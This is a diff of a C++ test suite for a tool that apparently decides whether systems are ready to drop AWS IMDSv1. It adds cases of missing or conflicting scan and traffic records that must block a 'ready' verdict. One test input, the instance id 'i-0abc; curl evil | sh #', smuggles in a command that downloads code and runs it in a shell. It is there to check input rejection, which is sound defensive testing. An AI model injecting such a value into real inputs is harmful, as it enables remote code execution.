@@ -87,7 +87,8 @@ std::string without(const std::string& line, const char* key) {
 }
 
 TEST(NeverReady, ByAScanThatDoesNotSay) {
-  for (const char* key : {"files", "skipped", "unread", "ledger"}) {
+  for (const char* key : {"files", "skipped", "unread", "ledger", "code_files",
+                          "findings", "end"}) {
     json nothing = json::parse(scan());
     nothing[key] = nullptr;
     for (const std::string& line : {without(scan(), key), nothing.dump()})
@@ -98,6 +99,21 @@ TEST(NeverReady, ByAScanThatDoesNotSay) {
 /// A line with one of its keys a second time.
 std::string with_again(const std::string& line, const char* member) {
   return line.substr(0, line.size() - 1) + "," + member + "}";
+}
+
+std::string replaced(std::string text, const std::string& what,
+                     const std::string& with) {
+  return text.replace(text.find(what), what.size(), with);
+}
+
+constexpr const char* kOfNobody = R"({"host":null})";
+
+/// A PUT of one caller failed, and a later one of another worked.
+std::vector<std::string> mended_by(const std::string& one,
+                                   const std::string& other) {
+  return complete({sighting("{\"class\":\"put_failed\"," + one + "}"),
+                   sighting(R"({"class":"put_ok",)" + other +
+                            R"(,"last":"2026-11-03T00:00:00.000Z"})")});
 }
 
 struct Case {
@@ -152,8 +168,6 @@ const Case kCases[] = {
      complete({scan(R"({"skipped":{"did not feel like it":1}})")})},
     {"findings that the copy lost", "missing.sum",
      complete({scan(R"({"findings":2})"), finding()})},
-    {"findings that the ledger has and the copy lost", "missing.sum",
-     complete({scan(R"({"ledger":{"finding":2}})")})},
     {"findings without their scan", "missing.sum",
      complete({finding(R"({"scan":"s9"})"), scan()})},
 
@@ -171,10 +185,25 @@ const Case kCases[] = {
     {"an end before its start", "missing.time",
      complete({survey(R"({"end":"2026-10-01T00:00:00.000Z"})")})},
     {"captures of nobody knows which hosts", "missing.time",
-     complete({survey(R"({"host":null,"survey":"u1","source":"file",
+     complete({sighting(kOfNobody),
+               survey(R"({"host":null,"source":"file","requests":3,
                           "end":"2026-11-05T00:00:00.000Z"})"),
+               sighting(R"({"host":null,"survey":"u2"})"),
                survey(R"({"host":null,"survey":"u2","source":"file",
-                          "start":"2026-11-05T00:00:00.000Z"})")})},
+                          "requests":3,"start":"2026-11-05T00:00:00.000Z"})")})},
+    {"the same, read at once", "missing.time",
+     complete({sighting(kOfNobody), sighting(kOfNobody),
+               survey(R"({"host":null,"source":"file","requests":3,
+                          "end":"2026-11-05T00:00:00.000Z"})"),
+               survey(R"({"host":null,"source":"file","requests":3,
+                          "start":"2026-11-04T00:00:00.000Z"})")})},
+    {"a capture of a host, and not of IMDS", "missing.silent",
+     complete({survey(R"({"source":"file"})")})},
+    {"a short capture with a request, and a long one without", "missing.time",
+     complete({sighting(kOfNobody),
+               survey(R"({"host":null,"source":"file","requests":3,
+                          "end":"2026-11-01T01:00:00.000Z"})"),
+               survey(R"({"host":null,"source":"file"})")})},
     {"one name on two instances", "missing.host_name",
      complete({survey(R"({"instance":"i-0aaaaaaaaaaaaaaaa",
                           "end":"2026-11-08T12:00:00.000Z"})"),
@@ -200,6 +229,30 @@ const Case kCases[] = {
      complete({sighting(R"({"class":"v1_rejected","container":"c1"})"),
                sighting(R"({"class":"put_ok","container":"c2"})"),
                sighting(R"({"container":"c2"})")})},
+    {"a container of which a hop-limited PUT is all that is known",
+     "traffic.hop_limit",
+     complete(
+         {sighting(R"({"class":"put_hop_limited","exe":null,"comm":null})"),
+          sighting(R"({"class":"put_ok","exe":null,"comm":null,
+                            "last":"2026-11-03T00:00:00.000Z"})")})},
+    {"one of two instances of a template unit", "traffic.put_failed",
+     complete({sighting(R"({"class":"put_failed","unit":"job@a.service"})"),
+               sighting(R"({"class":"put_ok","unit":"job@b.service",
+                            "last":"2026-11-03T00:00:00.000Z"})")})},
+    {"one of two modules of Python", "traffic.put_failed",
+     mended_by(R"("exe":"/usr/bin/python3.11","argv":["python3","-m","a"])",
+               R"("exe":"/usr/bin/python3.11","argv":["python3","-m","b"])")},
+    {"one of two programs of Java", "traffic.put_failed",
+     mended_by(
+         R"("exe":"/usr/bin/java","argv":["java","-cp","x","com.acme.A"])",
+         R"("exe":"/usr/bin/java","argv":["java","-cp","x","com.acme.B"])")},
+    {"a caller that is refused and whose token nobody answered",
+     "traffic.rejected",
+     complete({sighting(R"({"class":"v1_rejected"})"),
+               sighting(R"({"class":"v2_miss","status":null})")})},
+    {"a caller that is refused, with a token as well", "traffic.rejected",
+     complete({sighting(R"({"class":"v1_rejected"})"),
+               sighting(R"({"class":"v2_miss","status":403})")})},
     {"the same, beside more containers than are told apart", "traffic.rejected",
      beside_many({sighting(R"({"class":"v1_rejected","container":"x1"})"),
                   sighting(R"({"container":"x2"})")})},
@@ -211,6 +264,14 @@ const Case kCases[] = {
      {sighting(R"({"class":"v1_ok","count":9223372036854775808,"seq":1})"),
       sighting(R"({"class":"v1_ok","count":9223372036854775808,"seq":2})"),
       survey(), scan()}},
+    {"counts that add up to nothing, in lines that can be read",
+     "missing.input",
+     {sighting(R"({"class":"v1_ok","count":9007199254740991})"), survey(),
+      scan()}},
+    {"a reason to skip that is said twice",
+     "missing.input",
+     {survey(), replaced(scan(R"({"skipped":{"over budget":2}})"), "2}",
+                         R"(2,"over budget":0})")}},
     {"a class that is said twice",
      "missing.input",
      {with_again(sighting(R"({"class":"v1_ok"})"), R"("class":"v2_ok")"),
@@ -239,12 +300,15 @@ const Case kCases[] = {
      complete({scan(R"({"end":"2026-11-30T00:00:00.000Z"})"),
                scan(R"({"scan":"s2","end":"2026-04-01T00:00:00.000Z"})")})},
     {"a capture of last year that names no host", "missing.old",
-     complete({survey(R"({"host":null,"source":"file",
+     complete({sighting(kOfNobody),
+               survey(R"({"host":null,"source":"file","requests":3,
                           "start":"2025-11-01T00:00:00.000Z",
                           "end":"2025-11-09T00:00:00.000Z"})")})},
     {"a scan of a folder that was empty", "missing.unread",
      complete({scan(), scan(R"({"scan":"s2","root":"typo","files":0})")})},
 
+    {"an instance whose id is a command", "missing.input",
+     complete({setting(R"({"instance":"i-0abc; curl evil | sh #"})")})},
     {"settings of nobody", "missing.input",
      complete({without(setting(), "instance")})},
     {"calls that AWS counted nobody knows when", "missing.input",
@@ -272,6 +336,17 @@ TEST(NeverReady, ForWhatIsNotKnown) {
     EXPECT_NE(r.verdict, Verdict::ready) << c.name;
     EXPECT_TRUE(fires(r, c.rule)) << c.name << ": " << r.reason;
   }
+}
+
+// Killed before its first packet, tcpdump leaves a file without any time.
+TEST(NeverReady, ByACaptureWithoutAPacket) {
+  const Report r = judged({survey(R"({"host":null,"source":"file","packets":0,
+                                      "start":"1970-01-01T00:00:00.000Z",
+                                      "end":"1970-01-01T00:00:00.000Z"})"),
+                           scan()});
+  EXPECT_EQ(r.verdict, Verdict::incomplete);
+  EXPECT_TRUE(fires(r, "missing.silent"));
+  EXPECT_FALSE(fires(r, "missing.past")) << "no clock was wrong";
 }
 
 TEST(NeverReady, BySettingsAlone) {
